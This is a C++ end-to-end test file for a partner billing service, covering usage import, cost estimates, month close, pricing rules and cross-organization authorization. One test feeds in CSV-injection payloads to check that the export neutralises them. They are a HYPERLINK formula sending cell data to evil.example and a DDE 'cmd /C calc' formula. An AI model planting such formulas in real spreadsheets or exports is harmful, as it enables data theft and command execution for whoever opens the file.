// End-to-end billing: the seed's estimate API with both token kinds, month-to-date summaries,
// detail CSV, month close onto the sandbox's CLC invoice sink (exactly once, then a
// reconciliation line for late usage), and authorization across organizations.
#include <gtest/gtest.h>

#include <boost/json.hpp>
#include <chrono>
#include <fstream>

#include "core/time.h"
#include "store/store.h"
#include "tests/harness.h"

namespace pc::test {
namespace {

namespace json = boost::json;

const std::string kHeader =
    "PartnerId,CustomerId,EntitlementId,UsageDate,MeterCategory,ResourceURI,UnitPrice,Quantity,"
    "BillingPreTaxTotal,BillingCurrency,Tags,BenefitId\r\n";

// One usage line: UnitPrice × Quantity is the charge.
std::string Line(const std::string& customer, const std::string& sub, const std::string& day,
                 const std::string& category, const std::string& id, const std::string& price,
                 const std::string& quantity) {
  return "p," + customer + "," + sub + "," + day + "T00:00:00Z,\"" + category + "\",/r/" + id +
         "," + price + "," + quantity + ",0,USD,,\r\n";
}

// Cents as "12.34".
std::string Cents(int64_t c) {
  std::string s = std::to_string(c / 100) + ".";
  int64_t frac = c % 100;
  return s + (frac < 10 ? "0" : "") + std::to_string(frac);
}

class BillingTest : public ::testing::TestWithParam<Backend> {
 protected:
  void SetUp() override {
    db_ = MakeDatabase(GetParam());
    ASSERT_FALSE(db_.url.empty());
    dir_ = TempDir("pc_billing_test");
    AddUser("ops@partner.example", "operator", "Partner Operations", "partner");
    AddUser("admin@acme.example", "org_admin", "Acme", "customer");
    AddUser("admin@brit.example", "org_admin", "Britannia", "customer");
    auto db = store::Database::Open(db_.url);
    ASSERT_TRUE(db.ok()) << db.error().message;
    store_ = std::move(db).value();
    for (auto [alias, org] : {std::pair{"ACME", "Acme"}, {"BRIT", "Britannia"}}) {
      Exec(
          "INSERT INTO billing_aliases (alias, organization_id, company_name, country, "
          "account_snapshot, created_at, updated_at) SELECT '" +
          std::string(alias) + "', id, 'x', 'US', '{}', '', '' FROM organizations WHERE name = '" +
          org + "'");
    }
    Exec(
        "INSERT INTO azure_subscriptions_map (azure_subscription_id, customer_id, "
        "billing_alias) VALUES ('sub-a', 'cust-1', 'ACME'), ('sub-b', 'cust-2', 'BRIT')");
    sandbox_.Start({"sandbox"});
    server_.Start({"serve", "--database", db_.url, "--set",
                   "upstream.sandbox_url=" + sandbox_.BaseUrl(), "--set",
                   "billing.auto_close=false"});
  }

  void AddUser(const std::string& email, const std::string& role, const std::string& org,
               const std::string& kind) {
    test::AddUser(db_.url, email, role, org, kind);
  }

  void Exec(const std::string& sql) { test::Exec(*store_, sql); }

  std::string Login(const std::string& email) {
    return test::Login(server_.BaseUrl(), email).token;
  }

  std::string ClcToken(const std::string& user) {
    auto res = Http("POST", sandbox_.BaseUrl() + "/clc/v2/authentication/login",
                    R"({"username":")" + user + R"(","password":"sandbox"})",
                    {"Content-Type: application/json"});
    EXPECT_EQ(res.status, 200) << res.body;
    return std::string(Json(res.body).at("bearerToken").as_string());
  }

  void Import(const std::string& name, const std::string& csv) {
    std::string path = dir_ + "/" + name;
    std::ofstream(path, std::ios::binary) << csv;
    auto r = RunCommand({"usage", "import", "--database", db_.url, path});
    ASSERT_EQ(r.exit_code, 0) << r.err << r.out;
  }

  HttpResponse Get(const std::string& path, const std::string& token) {
    return Http("GET", server_.BaseUrl() + path, "", {"Authorization: Bearer " + token});
  }

  json::array SandboxInvoiceLines() {
    auto state = Http("GET", sandbox_.BaseUrl() + "/sandbox/control/state");
    return Json(state.body).at("invoiceLines").as_array();
  }

  TestDatabase db_;
  std::string dir_;
  std::unique_ptr<store::Database> store_;
  ServerProcess sandbox_, server_;
};

TEST_P(BillingTest, EstimatesWithEitherTokenKindAndOnlyForTheOwner) {
  // This month: 1.50 a day on ACME (0.5 × 3) from the 1st through today; BRIT 2.00 today.
  YearMonth month = YearMonth::Containing(Now());
  const int today =
      static_cast<int>((std::chrono::floor<std::chrono::days>(Now()) - month.Start()) /
                       std::chrono::days(1)) +
      1;
  std::string csv = kHeader;
  for (int d = 1; d <= today; ++d) {
    std::string day = month.ToString() + (d < 10 ? "-0" : "-") + std::to_string(d);
    csv += Line("cust-1", "sub-a", day, d % 2 ? "Storage" : "Virtual Machines, Linux",
                "a" + std::to_string(d), "0.5", "3");
  }
  csv += Line("cust-2", "sub-b", month.ToString() + "-01", "Storage", "b1", "2", "1");
  Import("month.csv", csv);

  const std::string mtd = Cents(150 * today);
  const std::string eom = Cents(150 * month.DaysInMonth());  // 1.50 × D × days / D
  const std::string expected = R"({"mtdEstimate":)" + mtd + R"(,"eomEstimate":)" + eom + "}";
  std::string acme = Login("admin@acme.example");
  std::string brit = Login("admin@brit.example");
  const std::string path = "/accounts/ACME/azure/billingestimate";

  auto ours = Get(path, acme);
  ASSERT_EQ(ours.status, 200) << ours.body;
  EXPECT_EQ(ours.body, expected);
  EXPECT_NE(ours.Header("content-type").find("application/json"), std::string::npos);

  // A CLC token of the alias's account administrator, and of the parent account.
  std::string clc_acme = ClcToken("acme.admin");
  auto clc = Get(path, clc_acme);
  ASSERT_EQ(clc.status, 200) << clc.body;
  EXPECT_EQ(clc.body, expected);
  EXPECT_EQ(Get(path, clc_acme).body, expected);  // cached verdict
  EXPECT_EQ(Get(path, ClcToken("partner.billing")).status, 200);

  // Another organization, by either token kind.
  auto other_org = Get(path, brit);
  EXPECT_EQ(other_org.status, 404) << other_org.body;
  auto other_clc = Get(path, ClcToken("brit.admin"));
  EXPECT_EQ(other_clc.status, 403) << other_clc.body;
  auto forged = Get(path, "eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJ4IjoxfQ.c2lnbmF0dXJl");
  EXPECT_EQ(forged.status, 401) << forged.body;
  EXPECT_EQ(Http("GET", server_.BaseUrl() + path).status, 401);
  EXPECT_EQ(Get("/api/v1/billing/ACME", brit).status, 404);
  EXPECT_EQ(Get("/api/v1/billing/ACME/detail.csv", brit).status, 404);
  EXPECT_EQ(Get("/api/v1/billing/ACME/invoices", brit).status, 404);

  // BRIT's own estimate; ACMD (a sub-account CLC lets acme.admin read) has no usage yet.
  // BRIT: 2.00 on the 1st only, so one day has elapsed: eom = 2.00 × days in month.
  EXPECT_EQ(Get("/accounts/BRIT/azure/billingestimate", brit).body,
            R"({"mtdEstimate":2.00,"eomEstimate":)" + Cents(200 * month.DaysInMonth()) + "}");
  auto none = Get("/accounts/ACMD/azure/billingestimate", clc_acme);
  EXPECT_EQ(none.status, 404) << none.body;
  EXPECT_EQ(Json(none.body).at("error").at("code").as_string(), "NoUsageYet");

  auto summary = Get("/api/v1/billing/ACME?month=" + month.ToString(), acme);
  ASSERT_EQ(summary.status, 200) << summary.body;
  auto s = Json(summary.body).as_object();
  EXPECT_EQ(s.at("mtd").as_string(), mtd);
  EXPECT_EQ(s.at("eomEstimate").as_string(), eom);
  EXPECT_EQ(s.at("forecast").as_string(), eom);  // a steady 1.50 a day
  EXPECT_EQ(s.at("currency").as_string(), "USD");
  EXPECT_EQ(s.at("daily").as_array().size(), static_cast<size_t>(today));
  EXPECT_EQ(s.at("byAzureSubscription").as_array().size(), 1u);
  auto bad_month = Get("/api/v1/billing/ACME?month=2026-13", acme);
  EXPECT_EQ(bad_month.status, 400);

  auto detail = Get("/api/v1/billing/ACME/detail.csv?month=" + month.ToString(), acme);
  ASSERT_EQ(detail.status, 200);
  EXPECT_EQ(detail.body.substr(0, detail.body.find("\r\n")),
            "AzureSubscriptionId,MeterCategory,Day,Quantity,Charge,Currency,PCToBCExchangeRate,"
            "BilledCharge");
  if (today >= 2) {
    EXPECT_NE(detail.body.find("sub-a,\"Virtual Machines, Linux\"," + month.ToString() +
                               "-02,3,1.5,USD,1,1.50\r\n"),
              std::string::npos)
        << detail.body;
  }
}

// A usage file is written by whoever names the resources: a formula in a text field must reach
// the customer's spreadsheet as text (OWASP CSV injection), while our own numbers stay numbers.
TEST_P(BillingTest, DetailCsvNeutralisesFormulasFromUsageFilesAndKeepsNumbers) {
  std::string csv = kHeader;
  // Line() quotes the category; quotes inside it are doubled as RFC 4180 wants.
  csv += Line("cust-1", "sub-a", "2025-03-01",
              "=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")", "f1", "0.5", "2");
  csv += Line("cust-1", "sub-a", "2025-03-02", "@SUM(1+1)*cmd|' /C calc'!A0", "f2", "1", "1");
  csv += Line("cust-1", "sub-a", "2025-03-03", "+1+1", "f3", "1", "1");
  csv += Line("cust-1", "sub-a", "2025-03-04", "-2+3", "f4", "1", "1");
  csv += Line("cust-1", "sub-a", "2025-03-05", "\t=1", "f5", "1", "1");
  csv += Line("cust-1", "sub-a", "2025-03-06", "Storage", "f6", "0.25", "10.5");
  Import("formulas.csv", csv);
  auto detail = Get("/api/v1/billing/ACME/detail.csv?month=2025-03", Login("admin@acme.example"));
  ASSERT_EQ(detail.status, 200) << detail.body;
  EXPECT_EQ(detail.body,
            "AzureSubscriptionId,MeterCategory,Day,Quantity,Charge,Currency,PCToBCExchangeRate,"
            "BilledCharge\r\n"
            // (rows in subscription, category, day order; BilledCharge sums to the month's
            // rounded total, 7.625 -> 7.63: the largest remainder, 2.625, gets the cent)
            "sub-a,\"'\t=1\",2025-03-05,1,1,USD,1,1.00\r\n"
            "sub-a,\"'+1+1\",2025-03-03,1,1,USD,1,1.00\r\n"
            "sub-a,\"'-2+3\",2025-03-04,1,1,USD,1,1.00\r\n"
            "sub-a,\"'=HYPERLINK(\"\"http://evil.example/"
            "?\"\"&A1,\"\"Click\"\")\",2025-03-01,2,1.0,USD,1,1.00\r\n"
            "sub-a,\"'@SUM(1+1)*cmd|' /C calc'!A0\",2025-03-02,1,1,USD,1,1.00\r\n"
            "sub-a,Storage,2025-03-06,10.5,2.625,USD,1,2.63\r\n");
}

// Issue 17 over HTTP: snapshot imports, the operator's mapping of kept-aside usage and the
// partner margin, each refusing bad input with a 4xx a person can act on.
TEST_P(BillingTest, SnapshotImportsKeptAsideMappingAndMarginOverTheApi) {
  std::string ops = Login("ops@partner.example");
  std::string acme = Login("admin@acme.example");
  auto post = [&](const std::string& path, const std::string& body, const std::string& type,
                  const std::string& token) {
    return Http("POST", server_.BaseUrl() + path, body,
                {"Content-Type: " + type, "Authorization: Bearer " + token});
  };
  std::string march = kHeader + Line("cust-1", "sub-a", "2024-03-05", "Storage", "s1", "1", "2") +
                      Line("cust-9", "sub-new", "2024-03-06", "Storage", "n1", "0.5", "3");
  auto bad_mode = post("/api/v1/usage/imports?mode=replace", march, "text/csv", ops);
  EXPECT_EQ(bad_mode.status, 400) << bad_mode.body;
  EXPECT_NE(bad_mode.body.find("snapshot"), std::string::npos) << bad_mode.body;
  auto first = post("/api/v1/usage/imports?mode=snapshot", march, "text/csv", ops);
  ASSERT_EQ(first.status, 201) << first.body;
  EXPECT_EQ(Json(first.body).at("mode").as_string(), "snapshot");
  EXPECT_EQ(Json(first.body).at("source").as_string(), "partner-center");
  // Restated: quantity 2 -> 4. The month holds the restatement alone: 4.00, not 6.00.
  std::string restated = kHeader +
                         Line("cust-1", "sub-a", "2024-03-05", "Storage", "s1", "1", "4") +
                         Line("cust-9", "sub-new", "2024-03-06", "Storage", "n1", "0.5", "3");
  auto second = post("/api/v1/usage/imports?mode=snapshot", restated, "text/csv", ops);
  ASSERT_EQ(second.status, 201) << second.body;
  EXPECT_EQ(Json(second.body).at("partitionsReplaced").as_int64(), 1);
  auto summary = Get("/api/v1/billing/ACME?month=2024-03", acme);
  ASSERT_EQ(summary.status, 200) << summary.body;
  EXPECT_EQ(Json(summary.body).at("mtd").as_string(), "4.00");

  // sub-new is kept aside until an operator maps it.
  auto kept = Get("/api/v1/usage/kept-aside", ops);
  ASSERT_EQ(kept.status, 200);
  ASSERT_EQ(Json(kept.body).at("items").as_array().size(), 1u) << kept.body;
  const std::string mappings = "/api/v1/usage/kept-aside/mappings";
  EXPECT_EQ(post(mappings, R"({"azureSubscriptionId":"sub-new","billingAlias":"ACME"})",
                 "application/json", acme)
                .status,
            403);
  auto no_alias = post(mappings, R"({"azureSubscriptionId":"sub-new"})", "application/json", ops);
  EXPECT_EQ(no_alias.status, 400) << no_alias.body;
  EXPECT_NE(no_alias.body.find("billingAlias"), std::string::npos) << no_alias.body;
  EXPECT_EQ(post(mappings, "not json", "application/json", ops).status, 400);
  EXPECT_EQ(post(mappings, R"({"azureSubscriptionId":"sub-new","billingAlias":"NOPE"})",
                 "application/json", ops)
                .status,
            404);
  EXPECT_EQ(post(mappings, R"({"azureSubscriptionId":"sub-b","billingAlias":"ACME"})",
                 "application/json", ops)
                .status,
            409);  // billed to BRIT already
  auto mapped = post(mappings, R"({"azureSubscriptionId":"sub-new","billingAlias":"acme"})",
                     "application/json", ops);
  ASSERT_EQ(mapped.status, 200) << mapped.body;
  auto attributed = Json(mapped.body).at("attributed").as_array();
  ASSERT_EQ(attributed.size(), 1u) << mapped.body;
  EXPECT_EQ(attributed[0].at("amount").as_string(), "1.5");  // 0.5 × 3, exact
  EXPECT_EQ(Json(Get("/api/v1/billing/ACME?month=2024-03", acme).body).at("mtd").as_string(),
            "5.50");
  EXPECT_TRUE(Json(Get("/api/v1/usage/kept-aside", ops).body).at("items").as_array().empty());

  // Margin: operators only; the partner's cost here is 0 (BillingPreTaxTotal 0).
  EXPECT_EQ(Get("/api/v1/billing/margin?month=2024-03", acme).status, 403);
  EXPECT_EQ(Get("/api/v1/billing/margin?month=March", ops).status, 400);
  auto margin = Get("/api/v1/billing/margin?month=2024-03", ops);
  ASSERT_EQ(margin.status, 200) << margin.body;
  auto items = Json(margin.body).at("items").as_array();
  ASSERT_EQ(items.size(), 1u) << margin.body;
  EXPECT_EQ(items[0].at("billingAlias").as_string(), "ACME");
  EXPECT_EQ(items[0].at("customerPrice").as_string(), "5.50");
  EXPECT_EQ(items[0].at("margin").as_string(), "5.50");
  auto csv = Get("/api/v1/billing/margin.csv?month=2024-03", ops);
  ASSERT_EQ(csv.status, 200);
  EXPECT_NE(csv.body.find("ACME,2024-03,USD,0.00,5.50,5.50,"), std::string::npos) << csv.body;
}

TEST_P(BillingTest, MonthCloseOnceThenReconciliation) {
  std::string march = kHeader +
                      Line("cust-1", "sub-a", "2024-03-05", "Storage", "m1", "0.125", "10.05") +
                      Line("cust-1", "sub-a", "2024-03-06", "Storage", "m2", "1", "2") +
                      Line("cust-2", "sub-b", "2024-03-07", "Storage", "m3", "3.333", "1");
  Import("march.csv", march);
  std::string ops = Login("ops@partner.example");
  std::string acme = Login("admin@acme.example");
  auto close = [&](const std::string& token, const std::string& month) {
    return Http("POST", server_.BaseUrl() + "/api/v1/billing/close",
                R"({"month":")" + month + R"("})", {"Authorization: Bearer " + token});
  };
  EXPECT_EQ(close(acme, "2024-03").status, 403);
  auto open = close(ops, YearMonth::Containing(Now()).ToString());
  EXPECT_EQ(open.status, 409) << open.body;
  EXPECT_EQ(close(ops, "March").status, 400);

  auto first = close(ops, "2024-03");
  ASSERT_EQ(first.status, 201) << first.body;
  EXPECT_EQ(Json(first.body).at("linesPosted").as_int64(), 2);
  auto again = close(ops, "2024-03");
  ASSERT_EQ(again.status, 200) << again.body;
  EXPECT_TRUE(Json(again.body).at("alreadyClosed").as_bool());

  auto lines = SandboxInvoiceLines();
  ASSERT_EQ(lines.size(), 2u);
  std::map<std::string, std::string> by_alias;
  for (const auto& l : lines) {
    EXPECT_EQ(l.at("description").as_string(), "Integrated Azure Services Usage");
    by_alias[std::string(l.at("accountAlias").as_string())] =
        std::string(l.at("itemTotal").as_string());
  }
  // ACME: 0.125 × 10.05 + 1 × 2 = 3.25625 → 3.26; BRIT: 3.333 → 3.33.
  EXPECT_EQ(by_alias["ACME"], "3.26");
  EXPECT_EQ(by_alias["BRIT"], "3.33");
  auto invoice = Http("GET", sandbox_.BaseUrl() + "/clc/v2/invoice/ACME/2024/3", "",
                      {"Authorization: Bearer " + ClcToken("acme.admin")});
  ASSERT_EQ(invoice.status, 200) << invoice.body;
  EXPECT_NE(invoice.body.find(R"("totalAmount":3.26)"), std::string::npos) << invoice.body;

  // A late March file, closed with April from the command line: exactly the difference.
  Import("march-late.csv",
         kHeader + Line("cust-1", "sub-a", "2024-03-30", "Storage", "late", "0.01", "7"));
  auto cli = RunCommand({"billing", "close", "--month", "2024-04", "--database", db_.url, "--set",
                         "upstream.sandbox_url=" + sandbox_.BaseUrl()});
  ASSERT_EQ(cli.exit_code, 0) << cli.err << cli.out;
  lines = SandboxInvoiceLines();
  ASSERT_EQ(lines.size(), 3u);
  const auto& update = lines.back().as_object();
  EXPECT_EQ(update.at("description").as_string(),
            "Update to Previous Month Microsoft Azure Services");
  EXPECT_EQ(update.at("accountAlias").as_string(), "ACME");
  EXPECT_EQ(update.at("month").as_int64(), 4);
  // March is now 3.25625 + 0.07 = 3.32625 → 3.33; 3.26 was billed: 0.07.
  EXPECT_EQ(update.at("itemTotal").as_string(), "0.07");

  auto invoices = Get("/api/v1/billing/ACME/invoices", acme);
  ASSERT_EQ(invoices.status, 200);
  EXPECT_EQ(Json(invoices.body).at("items").as_array().size(), 2u);
}

TEST_P(BillingTest, PricingRulesForOperatorsOnly) {
  std::string ops = Login("ops@partner.example");
  std::string acme = Login("admin@acme.example");
  const std::string url = server_.BaseUrl() + "/api/v1/pricing-rules";
  const std::string body =
      R"({"billingAlias":"ACME","meterCategory":"Storage","percent":"-12.5","effectiveFrom":"2030-01-01"})";
  EXPECT_EQ(Http("POST", url, body, {"Authorization: Bearer " + acme}).status, 403);
  auto bad =
      Http("POST", url, R"({"billingAlias":"ACME","percent":12.5,"effectiveFrom":"2030-01-01"})",
           {"Authorization: Bearer " + ops});
  EXPECT_EQ(bad.status, 400) << bad.body;
  auto created = Http("POST", url, body, {"Authorization: Bearer " + ops});
  ASSERT_EQ(created.status, 201) << created.body;
  auto list = Get("/api/v1/pricing-rules", ops);
  ASSERT_EQ(list.status, 200);
  auto items = Json(list.body).at("items").as_array();
  ASSERT_EQ(items.size(), 1u);
  EXPECT_EQ(items[0].at("percent").as_string(), "-12.5");
  EXPECT_EQ(Get("/api/v1/pricing-rules", acme).status, 403);
  auto audit = Get("/api/v1/audit", ops);
  EXPECT_NE(audit.body.find("pricing_rule.create"), std::string::npos);
}

// What the web UI reads: the aliases a user may see, the summary's item shapes (as
// api/openapi.json describes them) and the lines of each month close (operators only).
TEST_P(BillingTest, AliasesSummaryItemsAndClosesForTheWebUi) {
  Import("march.csv", kHeader +
                          Line("cust-1", "sub-a", "2024-03-05", "Storage", "m1", "0.125", "10.05") +
                          Line("cust-1", "sub-a", "2024-03-06", "Compute", "m2", "1", "2") +
                          Line("cust-2", "sub-b", "2024-03-07", "Storage", "m3", "3.333", "1"));
  std::string ops = Login("ops@partner.example");
  std::string acme = Login("admin@acme.example");
  std::string brit = Login("admin@brit.example");
  auto aliases = [&](const std::string& token) {
    auto res = Get("/api/v1/billing", token);
    EXPECT_EQ(res.status, 200) << res.body;
    std::vector<std::string> out;
    auto v = Json(res.body);
    for (const auto& a : v.at("items").as_array()) {
      out.push_back(std::string(a.at("billingAlias").as_string()));
      EXPECT_TRUE(a.at("organizationId").is_string());
      EXPECT_EQ(a.at("providerCount").as_int64(), 0);
    }
    return out;
  };
  EXPECT_EQ(aliases(acme), std::vector<std::string>{"ACME"});
  EXPECT_EQ(aliases(brit), std::vector<std::string>{"BRIT"});
  EXPECT_EQ(aliases(ops), (std::vector<std::string>{"ACME", "BRIT"}));
  EXPECT_EQ(Http("GET", server_.BaseUrl() + "/api/v1/billing").status, 401);

  auto summary = Get("/api/v1/billing/ACME?month=2024-03", acme);
  ASSERT_EQ(summary.status, 200) << summary.body;
  auto s = Json(summary.body);
  ASSERT_EQ(s.at("daily").as_array().size(), 2u);
  EXPECT_EQ(s.at("daily").at(0).at("day").as_string(), "2024-03-05");
  EXPECT_EQ(s.at("daily").at(0).at("charge").as_string(), "1.26");
  ASSERT_EQ(s.at("byMeterCategory").as_array().size(), 2u);
  EXPECT_EQ(s.at("byMeterCategory").at(1).at("meterCategory").as_string(), "Storage");
  EXPECT_EQ(s.at("byMeterCategory").at(1).at("exactCharge").as_string(), "1.25625");
  EXPECT_EQ(s.at("byMeterCategory").at(1).at("charge").as_string(), "1.26");
  ASSERT_EQ(s.at("byAzureSubscription").as_array().size(), 1u);
  EXPECT_EQ(s.at("byAzureSubscription").at(0).at("azureSubscriptionId").as_string(), "sub-a");

  auto closes = [&](const std::string& token, const std::string& query) {
    return Get("/api/v1/billing/closes" + query, token);
  };
  EXPECT_EQ(closes(acme, "").status, 403);
  EXPECT_EQ(closes(ops, "?month=March").status, 400);
  ASSERT_EQ(closes(ops, "?month=2024-03").status, 200);
  EXPECT_EQ(Json(closes(ops, "?month=2024-03").body).at("items").as_array().size(), 0u);
  auto closed = Http("POST", server_.BaseUrl() + "/api/v1/billing/close", R"({"month":"2024-03"})",
                     {"Authorization: Bearer " + ops});
  ASSERT_EQ(closed.status, 201) << closed.body;
  auto lines = closes(ops, "?month=2024-03");
  ASSERT_EQ(lines.status, 200) << lines.body;
  std::map<std::string, json::value> by_alias;
  auto line_items = Json(lines.body);
  for (const auto& l : line_items.at("items").as_array()) {
    by_alias[std::string(l.at("billingAlias").as_string())] = l;
  }
  ASSERT_EQ(by_alias.size(), 2u) << lines.body;
  // ACME: 0.125 × 10.05 + 1 × 2 = 3.25625 → 3.26; BRIT: 3.333 → 3.33.
  EXPECT_EQ(by_alias["ACME"].at("amount").as_string(), "3.26");
  EXPECT_EQ(by_alias["BRIT"].at("amount").as_string(), "3.33");
  for (auto& [alias, l] : by_alias) {
    EXPECT_EQ(l.at("month").as_string(), "2024-03");
    EXPECT_EQ(l.at("kind").as_string(), "usage");
    EXPECT_EQ(l.at("currency").as_string(), "USD");
    EXPECT_EQ(l.at("description").as_string(), "Integrated Azure Services Usage");
    EXPECT_EQ(l.at("state").as_string(), "posted");
    EXPECT_TRUE(l.at("postedAt").is_string());
  }
  EXPECT_EQ(Json(closes(ops, "").body).at("items").as_array().size(), 2u);
  EXPECT_EQ(Json(closes(ops, "?month=2024-04").body).at("items").as_array().size(), 0u);
}

INSTANTIATE_TEST_SUITE_P(Backends, BillingTest,
                         ::testing::Values(Backend::kSqlite, Backend::kPostgres),
                         [](const auto& info) { return BackendName(info.param); });

}  // namespace
}  // namespace pc::test
